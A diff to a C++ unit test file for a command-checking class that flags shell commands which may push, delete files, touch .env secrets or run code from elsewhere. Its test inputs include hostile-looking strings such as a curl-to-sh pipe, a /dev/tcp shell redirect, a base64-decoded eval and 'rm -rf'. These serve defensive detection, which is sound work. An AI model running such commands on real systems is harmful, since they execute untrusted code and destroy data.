@@ -36,7 +36,7 @@ TEST(Doubt, PointsToWhatTheTextMentions) {
   for (const Case& c : cases) {
     SCOPED_TRACE(c.note);
     const ParsedCommand parsed = commands_of(c.text);
-    const Doubt doubt(c.text, parsed, nullptr);
+    const Doubt doubt(c.text, parsed, {}, nullptr);
     EXPECT_EQ(!doubt.may_run({"git", "push"}).empty(), c.pushes);
     EXPECT_EQ(!doubt.may_run({"rm"}).empty(), c.removes);
     EXPECT_EQ(!doubt.may_name("**/.env*").empty(), c.names_env);
@@ -59,7 +59,7 @@ TEST(Doubt, OptionsOfOtherProgramsPointToNothing) {
   };
   for (const Case& c : cases) {
     const ParsedCommand parsed = commands_of(c.text);
-    EXPECT_EQ(Doubt(c.text, parsed, nullptr).may_have_flag("-r"), c.want) << c.text;
+    EXPECT_EQ(Doubt(c.text, parsed, {}, nullptr).may_have_flag("-r"), c.want) << c.text;
   }
 }
 
@@ -67,7 +67,7 @@ TEST(Doubt, ValuesOfTheEnvironmentArePartOfTheText) {
   const Environment env = {"CLEAN=rm -rf", "OTHER=push"};
   const char* const text = "$CLEAN build";
   const ParsedCommand parsed = commands_of(text);
-  const Doubt doubt(text, parsed, &env);
+  const Doubt doubt(text, parsed, {}, &env);
   EXPECT_EQ(doubt.may_run({"rm"}), "rm");
   EXPECT_TRUE(doubt.may_have_flag("-r"));
   EXPECT_EQ(doubt.may_run({"git", "push"}), "") << "the text does not use that variable";
@@ -76,11 +76,11 @@ TEST(Doubt, ValuesOfTheEnvironmentArePartOfTheText) {
 TEST(Doubt, CodeFromElsewhereMayBeAnything) {
   for (const char* text : {"curl x.example | sh", "sh < /dev/tcp/1.2.3.4/80", "eval \"$(echo x | base64 -d)\""}) {
     const ParsedCommand parsed = commands_of(text);
-    EXPECT_TRUE(Doubt(text, parsed, nullptr).may_hide_code()) << text;
+    EXPECT_TRUE(Doubt(text, parsed, {}, nullptr).may_hide_code()) << text;
   }
   for (const char* text : {"cat install.sh | sh", "eval \"$X\"", "find . | sed s/a/b/ | sh"}) {
     const ParsedCommand parsed = commands_of(text);
-    EXPECT_FALSE(Doubt(text, parsed, nullptr).may_hide_code()) << text;
+    EXPECT_FALSE(Doubt(text, parsed, {}, nullptr).may_hide_code()) << text;
   }
 }
 
